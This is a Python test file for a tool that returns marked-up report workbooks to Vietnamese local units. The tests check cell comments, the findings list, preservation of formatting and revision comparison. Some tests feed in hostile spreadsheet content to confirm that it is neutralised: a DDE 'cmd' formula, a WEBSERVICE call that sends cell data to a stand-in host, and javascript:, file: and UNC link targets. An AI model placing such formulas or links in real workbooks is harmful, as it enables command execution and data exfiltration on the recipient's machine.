"""What goes back to the units: their own file with marks, list and message; what comes back mended."""

from __future__ import annotations

import io
import re
import zipfile
from dataclasses import replace
from pathlib import Path
from xml.sax.saxutils import escape

import openpyxl
import pytest
from broken_workbooks import CASES, cell_of
from desk import Desk
from forms import Form, Formula, good_form
from handed_in import Office, form_bytes, with_macros, zipped
from openpyxl.comments import Comment
from openpyxl.drawing.image import Image
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from papibook.cli.app import main
from papibook.data.forms.workbook import write_workbook
from papibook.data.forms.write import Forms
from papibook.data.intake.compared import compare
from papibook.data.returns.marks import (
    AUTHOR,
    COLOURS,
    FIRST_HIDDEN,
    HEADER_ROW,
    LIST_SHEET,
    SEPARATOR,
    remove_marks,
)
from papibook.data.returns.message import place_words
from papibook.data.workbook.cells import a1, read_workbook
from papibook.model.findings import CODES, ERROR, NOTE, WARNING, Finding
from papibook.model.layout import FIGURES_SHEET, IDENTITY_SHEET, TASKS_SHEET

pytestmark = pytest.mark.slow
ROOT = Path(__file__).resolve().parents[4]


@pytest.fixture
def desk(tmp_path: Path) -> Desk:
    return Desk(Office(tmp_path))


def _colour(cell: openpyxl.cell.cell.Cell) -> str:
    return str(cell.fill.fgColor.rgb) if cell.fill.fill_type == "solid" else ""


def _broken() -> tuple[Form, str]:
    """A form with one error, and where."""
    form = good_form("xa-a")
    return form, form.put(FIGURES_SHEET, "I101", "value", "khoảng 20")


def test_cell_is_coloured_and_says_what_is_wrong_and_what_to_do(desk: Desk) -> None:
    form, cell = _broken()
    answer = desk.take(form)
    marked = desk.book(answer)[FIGURES_SHEET][cell]
    (finding,) = answer.findings
    assert _colour(marked) == COLOURS[ERROR]
    assert marked.comment.author == AUTHOR
    assert finding.text() in marked.comment.text
    assert finding.cure() in marked.comment.text
    assert marked.value == "khoảng 20"


def test_first_sheet_lists_all_findings_with_links_to_the_cells(desk: Desk) -> None:
    form, cell = _broken()
    form.task("T1.1-02", written_status="")
    answer = desk.take(form)
    book = desk.book(answer)
    sheet = book.worksheets[0]
    assert (sheet.title, book.active.title) == (LIST_SHEET, LIST_SHEET)
    assert [other.sheet_view.tabSelected for other in book.worksheets].count(True) == 1
    rows = list(sheet.iter_rows(min_row=HEADER_ROW + 1, max_col=6, values_only=True))
    assert len(rows) == len(answer.findings) == 2
    assert rows[0][:4] == ("1", "Phải sửa", FIGURES_SHEET, cell)
    assert rows[1][:3] == ("2", "Cần xem lại", TASKS_SHEET)
    assert sheet.cell(HEADER_ROW + 1, 4).hyperlink.location == f"'{FIGURES_SHEET}'!{cell}"
    assert sheet.column_dimensions[sheet.cell(1, FIRST_HIDDEN).column_letter].hidden


def test_returned_workbook_reads_the_same(desk: Desk) -> None:
    form, _ = _broken()
    answer = desk.take(form)
    sent = read_workbook(desk.office.post / "a.xlsx").sheets
    given_back = dict(read_workbook(desk.path(answer, "xlsx")).sheets)
    del given_back[LIST_SHEET]
    assert {name: sheet.rows for name, sheet in given_back.items()} == {
        name: sheet.rows for name, sheet in sent.items()
    }
    assert desk.book(answer)[IDENTITY_SHEET].sheet_state == "veryHidden"


def _rules_of(content: bytes) -> dict[str, object]:
    """What a form does for whoever fills it in, sheet by sheet: all that a clerk would miss."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    sheets = [sheet for sheet in book.worksheets if sheet.title != LIST_SHEET]
    return {
        sheet.title: {
            "state": sheet.sheet_state,
            "lists and limits": sorted(
                (str(rule.sqref), rule.type, rule.operator, rule.formula1, rule.formula2, rule.error)
                for rule in sheet.data_validations.dataValidation
            ),
            "colours": sorted(
                (str(area.sqref), rule.formula, rule.dxf.fill.bgColor.rgb if rule.dxf.fill else "")
                for area in sheet.conditional_formatting
                for rule in area.rules
            ),
            "protection": (sheet.protection.sheet, sheet.protection.formatColumns, sheet.protection.password),
            "unlocked": [c.coordinate for row in sheet for c in row if not c.protection.locked],
            "print": (sheet.print_area, sheet.print_title_rows, sheet.page_setup.orientation,
                      sheet.page_setup.paperSize, sheet.page_setup.fitToHeight, sheet.oddFooter.right.text,
                      sheet.sheet_properties.pageSetUpPr and sheet.sheet_properties.pageSetUpPr.fitToPage),
            "panes": sheet.freeze_panes,
            "widths": {name: column.width for name, column in sheet.column_dimensions.items()},
            "heights": {number: row.height for number, row in sheet.row_dimensions.items() if row.height},
            "formats": {c.coordinate: c.number_format for row in sheet for c in row},
        }
        for sheet in sheets
    }  # fmt: skip


def test_a_form_of_ours_loses_nothing_when_it_goes_back(desk: Desk) -> None:
    desk.take(good_form("xa-a"))  # what it says is filled in already: a blank form is not taken in
    stream = io.BytesIO()
    form = Forms.read(desk.office.project, "2022-S1").form("xa-a")
    wrong = form.figures["value"].astype(object).mask(form.figures["indicator_id"] == "I101", "khoảng 20")
    write_workbook(stream, replace(form, figures=form.figures.assign(value=wrong), prefilled_revision=None))
    answer = desk.looked_at(stream.getvalue())
    assert answer.findings
    assert _rules_of(desk.path(answer, "xlsx").read_bytes()) == _rules_of(stream.getvalue())
    sent, given_back = (
        read_workbook(path).sheets for path in (desk.office.post / "a.xlsx", desk.path(answer, "xlsx"))
    )
    assert {name: sheet for name, sheet in given_back.items() if name != LIST_SHEET} == sent
    assert given_back["Hướng dẫn"].cell(4, 0).startswith("CÒN THIẾU")  # type: ignore[union-attr]


def test_a_formula_keeps_its_result_so_that_the_file_may_come_back_unsaved(
    desk: Desk, tmp_path: Path
) -> None:
    form, _ = _broken()
    cell = form.put(FIGURES_SHEET, "I102", "numerator", Formula("=40+5"))
    with zipfile.ZipFile(io.BytesIO(form_bytes(form, tmp_path))) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    part = next(name for name, content in parts.items() if b"<f>40+5</f>" in content)
    parts[part] = re.sub(rb"<f>40\+5</f>(<v>[^<]*</v>|<v */>)?", b"<f>40+5</f><v>45</v>", parts[part])
    first = desk.take(zipped(parts))
    assert [finding.code for finding in first.findings] == ["figure.not_a_number"]
    again = desk.take(desk.path(first, "xlsx").read_bytes())
    assert [finding.code for finding in again.findings] == ["figure.not_a_number"]
    assert desk.book(again)[FIGURES_SHEET][cell].value == "=40+5"


def _saved(book: openpyxl.Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_protection_validations_and_formulas_survive(desk: Desk, tmp_path: Path) -> None:
    form, _ = _broken()
    book = openpyxl.load_workbook(io.BytesIO(form_bytes(form, tmp_path)))
    sheet = book[FIGURES_SHEET]
    sheet.protection.sheet = True
    sheet.protection.set_password("abc")
    rule = DataValidation("list", formula1='"Có,Không"', sqref="I6")
    sheet.add_data_validation(rule)
    sheet["Z4"] = "=SUM(I4:I5)"
    sheet["I4"].protection = openpyxl.styles.Protection(locked=False)
    hashed = sheet.protection.password
    sheet = desk.book(desk.take(_saved(book)))[FIGURES_SHEET]
    assert (sheet.protection.sheet, sheet.protection.password) == (True, hashed)
    assert [(str(rule.sqref), rule.formula1) for rule in sheet.data_validations.dataValidation] == [
        ("I6", '"Có,Không"')
    ]
    assert sheet["Z4"].value == "=SUM(I4:I5)"
    assert not sheet["I4"].protection.locked


def test_a_picture_stays_where_it_was(desk: Desk, tmp_path: Path) -> None:
    form, _ = _broken()
    book = openpyxl.load_workbook(io.BytesIO(form_bytes(form, tmp_path)))
    picture = (ROOT / "docs/images/cover.png").read_bytes()
    book[FIGURES_SHEET].add_image(Image(io.BytesIO(picture)), "Z9")
    answer = desk.take(_saved(book))
    (kept,) = desk.book(answer)[FIGURES_SHEET]._images
    assert (kept.anchor._from.col, kept.anchor._from.row) == (25, 8)
    with zipfile.ZipFile(desk.path(answer, "xlsx")) as archive:
        assert archive.read("xl/media/image1.png") == picture


def test_macros_are_never_carried_over(desk: Desk, tmp_path: Path) -> None:
    form, _ = _broken()
    content = with_macros(form_bytes(form, tmp_path), {"xl/vbaProject.bin": b"VBA"})
    answer = desk.take(content, "a.xlsm")
    with zipfile.ZipFile(desk.path(answer, "xlsx")) as archive:
        assert not [name for name in archive.namelist() if "vba" in name.casefold()]
        assert b"macroEnabled" not in archive.read("[Content_Types].xml")


@pytest.mark.parametrize(
    "formula",
    [
        "=[1]Sheet1!A1",
        "=cmd|'/C calc'!A0",
        '=WEBSERVICE("http://e.example/"&A1)',
        '=HYPERLINK("file:///c:/x")',
    ],
)
def test_what_reaches_outside_comes_back_as_the_value_that_was_read(
    desk: Desk, tmp_path: Path, formula: str
) -> None:
    form, _ = _broken()
    form.figure("I507", note="giữ chỗ")
    row, column = form.place(FIGURES_SHEET, "I507", "note")
    at = a1(row, column)
    content = _with_formula(form_bytes(form, tmp_path), formula, "giữ chỗ")
    sheet = desk.book(desk.take(content))[FIGURES_SHEET]
    assert (sheet[at].value, sheet[at].data_type) == ("giữ chỗ", "s")


def _with_formula(content: bytes, formula: str, value: str) -> bytes:
    """The workbook with the cell that holds the text ``value`` made a formula with that result."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w") as target:
        strings = re.findall(r"<si><t[^>]*>(.*?)</t></si>", source.read("xl/sharedStrings.xml").decode())
        cell = f't="s"><v>{strings.index(value)}</v>'.encode()
        formula_cell = f't="str"><f>{escape(formula[1:])}</f><v>{value}</v>'.encode()
        for name in source.namelist():
            target.writestr(name, source.read(name).replace(cell, formula_cell))
    return out.getvalue()


def test_links_that_start_something_are_taken_out(desk: Desk, tmp_path: Path) -> None:
    form, _ = _broken()
    book = openpyxl.load_workbook(io.BytesIO(form_bytes(form, tmp_path)))
    sheet = book[FIGURES_SHEET]
    targets = [
        "javascript:alert(1)",
        "file:///c:/x.exe",
        "\\\\host\\x",
        "https://mocchau.example/",
        "mailto:a@b.vn",
    ]
    for row, target in enumerate(targets, start=20):
        sheet.cell(row, 20, "bấm").hyperlink = target
    book.defined_names["x"] = DefinedName("x", attr_text="cmd|'/C calc'!A0")
    answer = desk.take(_saved(book))
    back = desk.book(answer)
    kept = [back[FIGURES_SHEET].cell(row, 20).hyperlink for row in range(20, 25)]
    assert [link and link.target for link in kept] == [None, None, None, *targets[3:]]
    assert "x" not in back.defined_names
    with zipfile.ZipFile(desk.path(answer, "xlsx")) as archive:
        assert not [name for name in archive.namelist() if "externalLink" in name]


def test_same_report_gives_the_same_bytes(desk: Desk, tmp_path: Path) -> None:
    form, _ = _broken()
    answer = desk.take(form)
    first = desk.path(answer, "xlsx").read_bytes()
    desk.path(answer, "txt").unlink()
    desk.path(answer, "xlsx").unlink()
    known = desk.take((desk.office.post / "a.xlsx").read_bytes())
    assert known.outcome == "known"
    assert desk.path(answer, "xlsx").read_bytes() == first


def test_marks_are_taken_off_when_the_workbook_comes_back(desk: Desk, tmp_path: Path) -> None:
    form, cell = _broken()
    book = openpyxl.load_workbook(io.BytesIO(form_bytes(form, tmp_path)))
    sheet = book[FIGURES_SHEET]
    sheet[cell].fill = openpyxl.styles.PatternFill("solid", fgColor="FFFFFBE6")
    sheet[cell].comment = Comment("xem công văn 5", "Người A")
    answer = desk.take(_saved(book))
    back = desk.book(answer)
    assert back[FIGURES_SHEET][cell].comment.text.endswith(SEPARATOR + "xem công văn 5")
    back[FIGURES_SHEET][cell] = 20
    back[FIGURES_SHEET].insert_rows(1)  # as a clerk may do; openpyxl moves no comments, Excel does
    row, column = form.place(TASKS_SHEET, "T1.1-02", "written_status")
    back[TASKS_SHEET].cell(row + 1, column + 1).value = "gần xong"
    again = desk.book(desk.looked_at(_saved(back)))
    assert again.sheetnames.count(LIST_SHEET) == 1
    assert again.sheetnames[0] == LIST_SHEET
    colours = {_colour(each) for row in again[FIGURES_SHEET].iter_rows() for each in row}
    assert not colours & set(COLOURS.values())
    mended = next(each for row in again[FIGURES_SHEET].iter_rows() for each in row if each.value == 20)
    assert _colour(mended) == "FFFFFBE6"
    assert mended.comment.text == "xem công văn 5"
    assert _colour(again[TASKS_SHEET].cell(row + 1, column + 1)) == COLOURS[ERROR]


def test_mended_file_is_the_next_revision_and_says_what_became_of_each_finding(desk: Desk) -> None:
    form, cell = _broken()
    form.task("T1.1-02", percent_done=0.85)
    first = desk.take(form)
    assert first.compared is None
    book = desk.book(first)
    book[FIGURES_SHEET][cell] = 20
    row, column = form.place(FIGURES_SHEET, "I507", "denominator")
    book[FIGURES_SHEET].cell(row + 1, column + 1).value = 24
    book[FIGURES_SHEET].cell(row + 1, column).value = 20
    second = desk.take(_saved(book), "b.xlsx")
    assert second.receipt is not None
    assert second.receipt.revision == 2
    assert second.compared is not None
    assert [finding.code for finding in second.compared.solved] == ["figure.not_a_number"]
    assert [finding.code for finding in second.compared.staying] == ["progress.percent_invalid"]
    assert [finding.code for finding in second.compared.new] == ["figure.small_sample"]
    text = desk.text(second)
    assert "đã sửa 1, vẫn còn 1, mới phát sinh 1" in text
    assert "Đã sửa so với lần trước:\n- Trang tính “Số liệu”, ô I4" in text
    since = [row[0] for row in desk.book(second)[LIST_SHEET].iter_rows(7, 8, 8, 8, values_only=True)]
    assert since == ["mới", "vẫn còn"] or since == ["vẫn còn", "mới"]


def test_nothing_goes_back_for_a_wholly_mended_file(desk: Desk) -> None:
    first = desk.take(_broken()[0])
    second = desk.take(good_form("xa-a"), "b.xlsx")
    assert second.compared is not None
    assert (len(second.compared.solved), second.findings) == (1, ())
    assert second.returned == ()
    assert not desk.path(second, "txt").exists()
    assert desk.path(first, "xlsx").exists()


def test_a_report_without_findings_gets_nothing_back(desk: Desk) -> None:
    answer = desk.take(good_form("xa-a"))
    assert answer.returned == ()
    assert not [path for path in desk.office.project.returns.rglob("*") if path.suffix in (".txt", ".xlsx")]


def test_file_too_broken_to_write_again_gets_the_text_alone(desk: Desk) -> None:
    answer = desk.take(b"no workbook at all")
    assert [Path(file).suffix for file in answer.returned] == [".txt"]
    text = desk.text(answer)
    assert "Kính gửi: đơn vị gửi tệp" in text
    assert "   Cách sửa: " in text


def test_what_openpyxl_cannot_write_goes_back_as_it_came(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("papibook.data.returns.marked_copy.MAX_UNZIPPED_BYTES", 100)
    answer = desk.take(_broken()[0])
    assert desk.path(answer, "xlsx").read_bytes() == (desk.office.post / "a.xlsx").read_bytes()
    assert "ô I4" in desk.text(answer)
    assert "gửi kèm" not in desk.text(answer)


def test_formula_like_text_stays_text_in_the_list(desk: Desk) -> None:
    form = good_form("xa-a")
    form.figure("I101", value="=HYPERLINK(1)")
    sheet = desk.book(desk.take(form))[LIST_SHEET]
    kinds = {cell.data_type for row in sheet.iter_rows(min_row=HEADER_ROW) for cell in row if cell.value}
    assert kinds == {"s"}


def test_findings_on_merged_cells_mark_the_first_of_them(desk: Desk) -> None:
    form = good_form("xa-a")
    row, column = form.place(TASKS_SHEET, "T1.1-01", "result_text")
    form.merged.append((TASKS_SHEET, row, column, row + 1, column))
    answer = desk.take(form)
    assert [finding.code for finding in answer.findings] == ["cell.merged"]
    assert _colour(desk.book(answer)[TASKS_SHEET].cell(row + 1, column + 1)) == COLOURS[ERROR]


def test_nothing_goes_back_for_notes_alone(desk: Desk) -> None:
    form = good_form("xa-a")
    form.figure("I101", value="1.234")
    answer = desk.take(form)
    assert [finding.severity for finding in answer.findings] == [NOTE]
    assert answer.returned == ()


def test_receive_writes_the_return_and_names_it(desk: Desk, capsys: pytest.CaptureFixture[str]) -> None:
    path = desk.office.letter("a.xlsx", _broken()[0])
    with pytest.raises(SystemExit):
        main(["receive", str(path), "--project", str(desk.office.project.root)])
    told = capsys.readouterr().out
    assert "Gửi lại đơn vị: data/returns/2022-S1/xa-a.r1.xlsx, data/returns/2022-S1/xa-a.r1.txt" in told
    assert (desk.office.project.root / "data/returns/2022-S1/xa-a.r1.txt").is_file()


def test_a_new_finding_is_told_once_and_marked(desk: Desk, capsys: pytest.CaptureFixture[str]) -> None:
    desk.take(good_form("xa-a"))
    form = good_form("xa-a")
    form.figure("I507", numerator=20, denominator=24)
    path = desk.office.letter("b.xlsx", form)
    with pytest.raises(SystemExit):
        main(["receive", str(path), "--project", str(desk.office.project.root)])
    told = capsys.readouterr().out
    assert "cảnh báo [mới] Số liệu" in told
    assert told.count("24 phiếu") == 1


ASKED = {"file.unrecognised_unit", "identity.made_up", "progress.date_before_start"}
"""Not a finding of the intake, which asks the office instead; and what only a longer plan can have."""

OTHER_UNIT = "row.other_unit"
"""Only where units report through another: tests/unit/data/intake/test_carried_reports.py."""
IN_CELLS = sorted(
    code
    for code, case in CASES.items()
    if (case.name or case.address) and case.period_id == "2022-S1" and code not in (*ASKED, OTHER_UNIT)
)


@pytest.fixture(scope="module")
def counter(tmp_path_factory: pytest.TempPathFactory) -> Desk:
    """One for all codes: every file is looked at by itself."""
    return Desk(Office(tmp_path_factory.mktemp("counter")))


@pytest.mark.parametrize("code", IN_CELLS)
def test_what_a_clerk_reads_names_the_cell_and_says_what_to_do(code: str, counter: Desk) -> None:
    case, form = CASES[code], good_form("xa-a")
    case.change(form)
    cell = cell_of(case, form)
    answer = counter.looked_at(form)
    finding = next(found for found in answer.findings if found.code == code)
    if not answer.returned:  # a note asks for nothing
        assert finding.severity == NOTE
        return
    place = f"Trang tính “{case.sheet}”, ô {cell}"
    assert place_words(finding) == place
    lines = counter.text(answer).split("\n")
    told = next(n for n, line in enumerate(lines) if place in line and finding.text() in line)
    assert lines[told + 1] == f"   Cách sửa: {finding.cure()}"
    book = counter.book(answer)
    if LIST_SHEET not in book.sheetnames:  # it would have lost something: the list goes beside it
        book = openpyxl.load_workbook(counter.path(answer, "can-sua.xlsx"))
        assert cell in [each.value for each in book[LIST_SHEET]["D"]]
        return
    marked = book[case.sheet][cell]
    if not isinstance(marked, openpyxl.cell.cell.MergedCell):
        assert finding.cure() in marked.comment.text


def test_every_code_of_a_row_is_told_with_its_cell() -> None:
    in_rows = {kind.code for kind in CODES.values() if kind.scope == "row"}
    assert in_rows - set(IN_CELLS) == {"figure.below_contained", "figure.far_from_usual", OTHER_UNIT}
    assert all(CASES[code].name or CASES[code].address for code in in_rows)


def test_both_cells_of_a_contradiction_are_marked_and_taken_off_again(counter: Desk) -> None:
    form = good_form("xa-a")
    task_cell = form.put(TASKS_SHEET, "T1.1-01", "written_status", "Hoàn thành")
    figure_cell = form.put(FIGURES_SHEET, "I101", "value", 0)
    answer = counter.looked_at(form)
    book = counter.book(answer)
    finding = next(found for found in answer.findings if found.code == "rule.contradiction")
    assert finding.places == ((TASKS_SHEET, task_cell), (FIGURES_SHEET, figure_cell))
    for sheet, cell in finding.places:
        assert finding.text() in book[sheet][cell].comment.text
        assert _colour(book[sheet][cell]) == COLOURS[WARNING]
    remove_marks(book)
    assert all(book[sheet][cell].comment is None for sheet, cell in finding.places)


def test_two_contradictions_of_one_cell_are_two_findings_of_the_next_revision() -> None:
    one, other = (
        Finding("rule.contradiction", sheet="s", cell="F4", subject_id="T1", values={"other": other})
        for other in ("I101", "I103")
    )
    compared = compare("R1", [one, other], [other])
    assert (compared.solved, compared.staying, compared.new) == ((one,), (other,), ())
